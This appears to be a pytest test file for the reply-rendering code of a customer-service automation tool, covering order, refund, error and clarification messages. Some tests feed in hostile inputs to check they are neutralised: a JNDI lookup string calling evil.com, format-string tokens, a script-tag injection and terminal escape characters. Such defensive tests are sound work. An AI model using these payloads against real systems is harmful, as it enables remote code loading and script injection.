from __future__ import annotations

import re

import pytest

from schemas import ActionResult
from tollgate.actions import INTENT_ACTIONS, ErrorCode
from tollgate.responses import render_clarify, render_holding, render_response

from .conftest import ALL_INTENTS, Case

INFORMATIONAL = [i for i in ALL_INTENTS if i not in INTENT_ACTIONS]


def ok(name: str, **data: str | float | int | bool | None) -> ActionResult:
    return ActionResult(name=name, idempotency_key="k", success=True, data=data)


def failed(name: str, code: str) -> ActionResult:
    return ActionResult(
        name=name, idempotency_key="k", success=False, error=f"{code}: backend-said-xyz", attempts=1
    )


def assert_finished_text(text: str) -> None:
    assert text.strip() and text == text.strip()
    assert not re.search(r"\$\{?[A-Za-z_]", text), text  # no placeholder left
    assert text[-1] in ".?!", text


def test_the_corpus_covers_every_intent(corpus: list[Case]) -> None:
    assert {c.intent for c in corpus} == set(ALL_INTENTS)
    assert len(ALL_INTENTS) == 19


@pytest.mark.parametrize("intent", ALL_INTENTS)
def test_every_intent_renders_without_action_data(intent: str) -> None:
    assert_finished_text(render_response(intent, None, {}))
    assert_finished_text(render_response(intent, None, {"order_id": "A12345"}))


def test_every_intent_renders_with_demo_action_data(corpus: list[Case]) -> None:
    for case in corpus:
        text = render_response(case.intent, case.result, case.entities)
        assert_finished_text(text)
        if case.result is not None and case.result.success and "order_id" in case.result.data:
            assert str(case.result.data["order_id"]) in text


def test_action_intents_without_result_only_acknowledge() -> None:
    text = render_response("request_refund", None, {"order_id": "A12345", "amount": "80.00"})
    assert "A12345" in text
    assert "80" not in text


def test_facts_come_from_the_action_data() -> None:
    entities = {"order_id": "A12345", "amount": "99.99"}
    first = render_response(
        "check_order_status",
        ok(
            "lookup_order",
            order_id="A12345",
            status="processing",
            items="Mug",
            total=12.3,
            currency="EUR",
            eta="2025-05-06",
        ),
        entities,
    )
    assert "EUR 12.30" in first and "6 May 2025" in first and "Mug" in first
    assert "99.99" not in first
    second = render_response(
        "check_order_status",
        ok("lookup_order", order_id="A12345", status="delivered", delivered_on="2025-02-01"),
        entities,
    )
    assert "1 February 2025" in second and "EUR" not in second


def test_status_decides_the_lookup_sentence() -> None:
    shipped = render_response(
        "check_order_status",
        ok(
            "lookup_order",
            order_id="B1",
            status="shipped",
            carrier="DHL",
            tracking_number="TRK-1A2B3C4D",
            eta="2025-01-09",
        ),
        {},
    )
    assert "DHL" in shipped and "TRK-1A2B3C4D" in shipped and "9 January 2025" in shipped
    odd = render_response("check_order_status", ok("lookup_order", status="on hold"), {})
    assert "on hold" in odd


@pytest.mark.parametrize(
    ("intent", "action", "code", "expected"),
    [
        ("check_order_status", "lookup_order", ErrorCode.NOT_FOUND, "could not find an order"),
        ("cancel_order", "cancel_order", ErrorCode.ALREADY_SHIPPED, "can no longer be cancelled"),
        ("update_shipping_address", "update_address", ErrorCode.ALREADY_SHIPPED, "address"),
        ("process_return", "create_return", ErrorCode.NOT_SHIPPED, "cannot be returned"),
        ("apply_discount_code", "apply_discount", ErrorCode.INVALID_CODE, "not a valid"),
        ("apply_discount_code", "apply_discount", ErrorCode.EXPIRED_CODE, "expired"),
        ("request_refund", "issue_refund", ErrorCode.OVER_LIMIT, "approval"),
        ("account_access", "send_password_reset", ErrorCode.NOT_FOUND, "account"),
        ("delivery_problem", "open_delivery_investigation", ErrorCode.TIMEOUT, "technical"),
        ("product_availability", "check_stock", "some_new_code", "technical"),
        ("request_refund", "issue_refund", ErrorCode.INVALID_PARAMS, "we need"),
    ],
)
def test_failures_are_explained_by_error_code(
    intent: str, action: str, code: str, expected: str
) -> None:
    entities = {"order_id": "A12345", "discount_code": "SAVE20"}
    text = render_response(intent, failed(action, code), entities)
    assert expected in text
    assert "backend-said" not in text  # the backend's free-text detail is never shown
    assert_finished_text(text)


def test_customer_not_found_does_not_talk_about_orders() -> None:
    text = render_response(
        "unsubscribe_marketing", failed("unsubscribe_marketing", ErrorCode.NOT_FOUND), {}
    )
    assert "order" not in text.lower()


def test_values_are_never_interpreted_as_templates() -> None:
    hostile = "${jndi:ldap://evil.com/a} $order_id {0} %s"
    text = render_response(
        "update_shipping_address",
        ok("update_address", order_id="A12345", new_address=hostile, status="processing"),
        {"order_id": "A12345"},
    )
    assert hostile in text
    stock = render_response(
        "product_availability", ok("check_stock", product="$total", in_stock=True, quantity=2), {}
    )
    assert stock.startswith("Good news: $total is in stock")


def test_malformed_entities_are_not_rendered() -> None:
    text = render_response("cancel_order", None, {"order_id": "<script>alert(1)</script>"})
    assert "<script>" not in text
    assert_finished_text(text)


def test_free_text_values_are_cleaned_and_capped() -> None:
    text = render_response(
        "product_availability",
        ok("check_stock", product="mug\n\x1b[31mred\u200b " + "x" * 500, in_stock=True),
        {},
    )
    assert "\n" not in text and "\x1b" not in text and "\u200b" not in text
    assert len(text) < 250


def test_informational_intents_ignore_action_data() -> None:
    fake = ok("lookup_order", order_id="A1", total=55.55, currency="EUR")
    for intent in INFORMATIONAL:
        assert "55.55" not in render_response(intent, fake, {"order_id": "A1"})


def test_speak_to_human_gets_the_holding_message() -> None:
    assert render_response("speak_to_human", None, {}) == render_holding("general")


def test_clarify_asks_for_each_missing_detail() -> None:
    one = render_clarify("check_order_status", ["order_id"])
    assert "order number" in one and "Could you send us this?" in one
    several = render_clarify("request_refund", ["order_id", "amount", "order_id"])
    assert several.count("order number") == 1 and "amount" in several and "these details" in several
    unknown = render_clarify("complaint", ["ssn_of_ceo_$x"])
    assert "ssn" not in unknown and "a few more details" in unknown
    for intent in ALL_INTENTS:
        assert_finished_text(render_clarify(intent, ["order_id", "customer_id"]))
        assert_finished_text(render_clarify(intent, []))


def test_holding_messages_per_queue() -> None:
    queues = ["general", "legal", "security", "billing"]
    texts = {q: render_holding(q) for q in queues}
    assert len(set(texts.values())) == len(queues)
    assert "billing" in texts["billing"] and "security" in texts["security"]
    assert render_holding("no-such-queue") == texts["general"]
    for text in texts.values():
        assert_finished_text(text)


def test_informational_answers_use_the_order_number_the_customer_gave() -> None:
    text = render_response("billing_question", None, {"order_id": "a10023"})
    assert "A10023" in text
    assert "A10023" not in render_response("billing_question", None, {})


def test_the_packs_declared_returns_cover_the_demo_backends_data(corpus: list[Case]) -> None:
    from tollgate.actions.pack import load_action_decls
    from tollgate.config import DEFAULT_DOMAIN_DIR

    decls = load_action_decls(DEFAULT_DOMAIN_DIR)
    assert decls is not None
    for case in corpus:
        if case.result is not None and case.result.success:
            assert set(case.result.data) <= decls[case.result.name].data_keys(), case.result.name


def test_clarify_and_holding_texts_name_the_details_the_customer_gave() -> None:
    asked = render_clarify("request_refund", ["amount"], entities={"order_id": "a10023"})
    assert "your refund for order A10023" in asked and "amount" in asked
    plain = render_clarify("request_refund", ["amount"])
    assert plain.startswith("We would be glad to help with your refund. ")
    pending = render_response("cancel_order", None, {"order_id": "A10023"})
    assert pending.count("A10023") == 1


def test_a_reply_written_before_the_call_is_the_one_a_success_sends(corpus: list[Case]) -> None:
    """Every successful demo call: what the pack's ``foreseen`` projects from the params renders
    the reply the real result's known part renders; the reads, whose reply is their result,
    project no reply at all (their draft shows the holding reply instead)."""
    from tollgate.actions.foresight import foresee, known_part
    from tollgate.actions.pack import load_action_decls
    from tollgate.config import DEFAULT_DOMAIN_DIR
    from tollgate.responses.pack import active_templates

    decls = load_action_decls(DEFAULT_DOMAIN_DIR)
    assert decls is not None
    generic = active_templates().texts.generic_problem
    written: dict[str, int] = {}
    for case in corpus:
        real = case.result
        if real is None or not real.success:
            continue
        params = {**case.entities, "customer_id": str(real.data.get("customer_id", ""))}
        data = foresee(decls[real.name].foreseen, params)
        foreseen = real.model_copy(update={"data": data})
        reply = render_response(case.intent, foreseen, case.entities)
        assert reply == render_response(case.intent, known_part(real, foreseen), case.entities)
        written[real.name] = written.get(real.name, 0) + (reply != generic)
    assert {name for name, n in written.items() if n == 0} == {"lookup_order", "check_stock"}
    assert all(n > 0 for name, n in written.items() if name not in ("lookup_order", "check_stock"))


def test_a_rule_on_data_the_result_lacks_never_applies() -> None:
    # an unknown in_stock is not "out of stock"
    unknown = ActionResult(
        name="check_stock", idempotency_key="k", success=True, data={"product": "Coffee mug"}
    )
    assert "out of stock" not in render_response("product_availability", unknown, {})
    known = unknown.model_copy(update={"data": {"product": "Coffee mug", "in_stock": False}})
    assert "Coffee mug is currently out of stock" in render_response(
        "product_availability", known, {}
    )
